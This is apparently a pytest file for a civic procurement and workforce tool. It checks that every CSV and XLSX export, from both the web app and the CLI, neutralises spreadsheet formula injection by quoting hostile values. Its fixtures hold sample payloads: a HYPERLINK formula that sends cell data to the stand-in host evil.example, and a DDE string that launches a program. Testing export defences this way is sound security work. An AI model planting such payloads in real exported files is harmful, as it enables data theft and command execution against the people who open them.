"""Formula injection: every CSV and XLSX a user downloads or writes (web and CLI) goes through the one export
writer, and a hostile value (a supplier, employer, role, location, apprentice or column header that starts
like a formula) arrives as inert text: quoted in CSV, stored as quoted text in XLSX, never a formula."""

from __future__ import annotations

import ast
import csv
import datetime as dt
import io
import re
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.web_support import build_web, refresh_figures, signed_in
from tests.web_support import report as report_download
from typer.testing import CliRunner

from anchorage.assets.synthetic import Location, write_transparency_register
from anchorage.cli.main import app as cli
from anchorage.contracts.importer import import_contracts
from anchorage.exports import FORMULA_STARTS, csv_bytes, csv_cell, xlsx_bytes
from anchorage.ingest.spend import ingest_spend
from anchorage.reports.workforce_report import write_workforce_report
from anchorage.store.opportunities_records import SupplierRegistration
from anchorage.suppliers.resolve import resolve
from anchorage.workforce.apprenticeships import (
    load_apprentices,
    load_placements,
    load_programmes,
    solve_and_save,
)
from anchorage.workforce.bid_io import load_pledges, load_starts
from anchorage.workforce.levy_io import load_pay_bills

NUMBER = re.compile(
    r"-?\d+(\.\d+)?(e[+-]?\d+)?"
)  # a real number, written by the writer as a number
SRC = Path(__file__).resolve().parents[1] / "src" / "anchorage"
SUPPLIER = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
EMPLOYER = "=1+2 Cafe Ltd"
ROLE = "+cmd|' /C calc'!A0"
LOCATION = "@SUM(1+1)"
APPRENTICE = "-2+3"
CATEGORY = "-Works and repairs"  # an expense type, shown in the report
HEADER = "=Net Amount"  # a column header the quarantine shows
CONTRACT = "=Walrus civic catering"  # a contract title in the opportunity brief
REGISTERED = "@Sunrise Catering"  # a self-registered supplier in the directory
ASSET = "+Old Library Hall"
NEXT = dt.date.today().year + 1


def write(path: Path, text: str) -> Path:
    path.write_text(text, encoding="utf-8")
    return path


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    root = tmp_path_factory.mktemp("exports")
    web = build_web(root)
    ws, d = web.ws, root / "hostile"
    d.mkdir()
    ingest_spend(
        ws,
        write(
            d / "council-extra.csv",
            f"Payee,{HEADER},Paid Date,Expense Type\n"
            f'"{SUPPLIER.replace(chr(34), chr(34) * 2)}",1200,02/05/2023,{CATEGORY}\n'
            "Fine Ltd,lots,03/05/2023,Works\n",
        ),
        "Council",
        date_order="dmy",
        accept_warnings=True,
    )  # it adds to the council's May 2023 payments
    resolve(ws)
    load_programmes(
        ws,
        write(
            d / "p.csv",
            "id,standard,level,duration_months,off_the_job_hours,start_date\n"
            "BA3,Business administrator,3,12,400,01/09/2025\n",
        ),
    )
    load_placements(
        ws,
        write(
            d / "pl.csv",
            "id,anchor,department,skill,capacity\nC1,Council,Finance,finance,1\n"
            "T1,Acute Trust,Estates,estates,2\n",
        ),
    )
    load_apprentices(
        ws,
        write(
            d / "a.csv",
            "id,programme,employer,start_date,preferences\n"
            f"{APPRENTICE},BA3,Council,01/09/2025,C1;T1\n",
        ),
    )
    solve_and_save(ws, months=12, block_months=6, time_limit=10)
    bills = "anchor,month,pay_bill\n" + "".join(
        f"Council,{m:02}/2024,1000000\n" for m in range(1, 13)
    )
    load_pay_bills(ws, write(d / "bills.csv", bills))
    load_pledges(
        ws,
        write(
            d / "pledges.csv",
            "employer,role,placements,hours_per_week,hourly_wage,duration_months,location,"
            f'additionality,pledged_on\n{EMPLOYER},"{ROLE}",20,25,8.72,6,{LOCATION},Y,01/12/2020\n',
        ),
    )
    load_starts(
        ws,
        write(
            d / "starts.csv",
            "employer,role,participant,start_date,outcome\n"
            f'{EMPLOYER},"{ROLE}",P1,01/03/2021,completed\n',
        ),
    )
    import_contracts(
        ws,
        write(
            d / "council-contracts.csv",
            "Title,Supplier,Value,Start Date,End Date,CPV\n"
            f"{CONTRACT},-Local Caterers Ltd,900000,01/04/{NEXT - 2},31/03/{NEXT + 1},55520000\n",
        ),
        "council",
    )
    import_contracts(
        ws,
        write(
            d / "trust-contracts.csv",
            "Title,Supplier,Value,Start Date,End Date,Category\n"
            f"Patient meals,Far Away Foods plc,3000000,01/01/{NEXT - 2},31/12/{NEXT},Patient catering\n",
        ),
        "acute-trust",
    )
    with ws.session() as s:
        s.add(
            SupplierRegistration(
                name=REGISTERED,
                categories=["Catering"],
                postcode="SE6 4RU",
                size="micro",
                org_type="company",
                description="=2+2 hot lunches",
                contact_email="a@b.example",
                status="confirmed",
                confirmed_at=dt.datetime.now(dt.UTC),
            )
        )
        s.commit()
    refresh_figures(ws)  # data loaded behind the server: the figures the pages and reports read
    return web


def texts_of_xlsx(content: bytes) -> set[str]:
    """Every text cell of the workbook, after checking that none is a formula or unquoted formula-like text."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    found: set[str] = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_STARTS) or cell.quotePrefix, (
                        f"{sheet.title}!{cell.coordinate} = {cell.value!r} would run as a formula"
                    )
                    found.add(cell.value)
    return found


def texts_of_csv(content: bytes) -> set[str]:
    """Every cell and header of the CSV, after checking that none starts like a formula."""
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert rows, "an empty CSV tests nothing"
    cells = {v for row in rows for v in row}
    bad = [v for v in cells if v.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(v)]
    assert not bad, bad
    return cells


def contains(cells: set[str], value: str, *, quoted: bool) -> bool:
    want = "'" + value if quoted else value
    return any(want in c for c in cells)


def test_cells_are_neutralised_and_numbers_stay_numbers():
    df = pd.DataFrame(
        {
            HEADER: [SUPPLIER, "plain", None, "-3"],
            "amount £": [-1.5, 2.0, None, 3.0],
            "paid": [dt.date(2024, 1, 2)] * 4,
        }
    )
    rows = list(csv.reader(io.StringIO(csv_bytes(df).decode("utf-8-sig"))))
    assert rows[0] == ["'" + HEADER, "amount £", "paid"]
    assert rows[1] == ["'" + SUPPLIER, "-1.5", "2024-01-02"] and rows[4][0] == "'-3"
    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes({"S": df})))
    sheet = book["S"]
    assert sheet["A1"].value == HEADER and sheet["A1"].quotePrefix and sheet["A1"].font.b
    assert (
        sheet["A2"].value == SUPPLIER and sheet["A2"].data_type == "s" and sheet["A2"].quotePrefix
    )
    assert sheet["A3"].value == "plain" and not sheet["A3"].quotePrefix
    assert (
        sheet["B2"].value == -1.5 and sheet["B2"].data_type == "n"
    )  # a real number is still a number
    assert sheet["C2"].value == dt.datetime(2024, 1, 2)
    texts_of_xlsx(xlsx_bytes({"S": df}))


@settings(deadline=None, max_examples=60)
@given(st.text(max_size=30))
def test_any_text_round_trips_and_never_runs(value):
    df = pd.DataFrame({"v": [value]})
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_bytes({"S": df})))["S"]
    cell = sheet["A2"]
    if value:
        assert cell.data_type == "s" and cell.value is not None
        assert cell.quotePrefix == value.startswith(FORMULA_STARTS)
    assert not str(csv_cell(value)).startswith(FORMULA_STARTS)


def test_no_other_csv_or_xlsx_writer_in_the_source():
    """Every export goes through anchorage.exports; demo and synthetic input generators write inputs, not exports."""
    allowed = {"exports.py", "synthetic.py"}
    bad = []
    for path in SRC.rglob("*.py"):
        if path.name in allowed or "demo" in path.relative_to(SRC).parts:
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            name = (
                node.attr
                if isinstance(node, ast.Attribute)
                else node.id
                if isinstance(node, ast.Name)
                else ""
            )
            if name in {
                "to_csv",
                "to_excel",
                "ExcelWriter",
                "writer",
                "DictWriter",
                "xlsxwriter",
                "write_excel",
            } and not (
                name == "writer"
                and not (isinstance(node, ast.Attribute) and getattr(node.value, "id", "") == "csv")
            ):
                bad.append(f"{path.relative_to(SRC)}:{node.lineno} {name}")
            if isinstance(node, ast.Import | ast.ImportFrom):
                mods = [a.name for a in node.names] + (
                    [node.module] if isinstance(node, ast.ImportFrom) else []
                )
                bad += [
                    f"{path.relative_to(SRC)}:{node.lineno} imports xlsxwriter"
                    for m in mods
                    if m == "xlsxwriter"
                ]
    assert not bad, bad


def test_web_exports_carry_hostile_values_as_text(hostile):
    council = signed_in(hostile, "analyst@council.org")
    resolved = texts_of_csv(council.get("/suppliers/resolved.csv").content)
    assert contains(resolved, SUPPLIER, quoted=True)
    from anchorage.access import queries
    from anchorage.access.gate import viewer_for
    from anchorage.store.accounts import User

    with hostile.ws.session() as s:
        viewer = viewer_for(s, s.query(User).filter(User.email == "analyst@council.org").one())
    upload_id = next(
        u.id for u in queries.uploads(hostile.ws, viewer, "council") if "extra" in u.filename
    )
    q_csv = texts_of_csv(council.get(f"/uploads/{upload_id}/quarantine.csv").content)
    assert contains(q_csv, HEADER, quoted=True)
    q_xlsx = texts_of_xlsx(council.get(f"/uploads/{upload_id}/quarantine.xlsx").content)
    assert HEADER in q_xlsx
    report = texts_of_xlsx(report_download(hostile, council, "xlsx").content)
    assert CATEGORY in report, [t for t in report if "Works" in t]
    pack = texts_of_xlsx(council.get("/workforce/bid/pack.xlsx").content)
    assert {EMPLOYER, ROLE, LOCATION} <= pack
    calendar = texts_of_xlsx(council.get("/workforce/apprenticeships/calendar.xlsx").content)
    assert APPRENTICE in calendar
    admin = signed_in(hostile, "admin@council.org")
    texts_of_xlsx(admin.get("/workforce/levy/ledger.xlsx").content)
    listing = council.get("/pipeline/opportunities").text
    opp = re.search(r'href="/pipeline/opportunities/([0-9a-f]{10,})\?', listing).group(1)
    assert CONTRACT in texts_of_xlsx(
        council.get(f"/pipeline/opportunities/{opp}/brief.xlsx").content
    )
    assert REGISTERED in texts_of_xlsx(council.get("/directory/export.xlsx").content)
    assert contains(
        texts_of_csv(council.get("/directory/export.csv").content), REGISTERED, quoted=True
    )


def test_cli_exports_carry_hostile_values_as_text(hostile, tmp_path):
    runner = CliRunner()
    ws = str(hostile.ws.root)

    def run(*args: str) -> None:
        r = runner.invoke(cli, [*args, "--workspace", ws])
        assert r.exit_code == 0, r.output

    run("suppliers", "export", "--out", str(tmp_path / "s.csv"))
    assert contains(texts_of_csv((tmp_path / "s.csv").read_bytes()), SUPPLIER, quoted=True)
    run("suppliers", "export", "--out", str(tmp_path / "s.xlsx"))
    assert SUPPLIER in texts_of_xlsx((tmp_path / "s.xlsx").read_bytes())
    run("spend", "quarantine", "--out", str(tmp_path / "q.csv"))
    assert contains(texts_of_csv((tmp_path / "q.csv").read_bytes()), HEADER, quoted=True)
    run("spend", "quarantine", "--out", str(tmp_path / "q.xlsx"))
    assert HEADER in texts_of_xlsx((tmp_path / "q.xlsx").read_bytes())
    run("report", "--out", str(tmp_path / "report"))
    assert CATEGORY in texts_of_xlsx((tmp_path / "report" / "anchorage-report.xlsx").read_bytes())
    csvs = set().union(
        *(texts_of_csv(p.read_bytes()) for p in (tmp_path / "report" / "csv").glob("*.csv"))
    )
    assert contains(csvs, CATEGORY, quoted=True)
    run("bid", "build", "--out", str(tmp_path / "bid"))
    assert {EMPLOYER, ROLE, LOCATION} <= texts_of_xlsx(
        (tmp_path / "bid" / "bid-pack.xlsx").read_bytes()
    )
    run("apprenticeships", "calendar", "--out", str(tmp_path / "cal.xlsx"))
    assert APPRENTICE in texts_of_xlsx((tmp_path / "cal.xlsx").read_bytes())
    run("levy", "ledger", "--out", str(tmp_path / "ledger.csv"))
    texts_of_csv((tmp_path / "ledger.csv").read_bytes())
    run("levy", "ledger", "--out", str(tmp_path / "ledger.xlsx"))
    texts_of_xlsx((tmp_path / "ledger.xlsx").read_bytes())
    run("pipeline", "brief", "1", "--out", str(tmp_path / "brief.xlsx"))
    assert CONTRACT in texts_of_xlsx((tmp_path / "brief.xlsx").read_bytes())
    # Land and buildings: an asset whose name starts like a formula, in the assets report's CSVs.
    places = [Location("SE6 4RU", 537_700, 172_800), Location("SE13 6LH", 538_000, 175_400)]
    reg = write_transparency_register(
        tmp_path / "reg.csv", 12, places, org_name="Council", seed=3, broken=False
    )
    rows = list(csv.reader(io.StringIO(reg.path.read_text(encoding="utf-8"))))
    name_col = rows[0].index("Name")
    rows[1][name_col] = ASSET
    with reg.path.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows(rows)
    run("assets", "import", str(reg.path), "--org", "Council")
    run("assets", "report", "--out", str(tmp_path / "assets"))
    csvs = set().union(
        *(texts_of_csv(p.read_bytes()) for p in (tmp_path / "assets" / "csv").glob("assets-*.csv"))
    )
    assert contains(csvs, ASSET, quoted=True)
    # The workforce report (the demo writes it beside the main report).
    wf = write_workforce_report(hostile.ws, tmp_path / "wf")["xlsx"]
    assert APPRENTICE in texts_of_xlsx(wf.read_bytes())
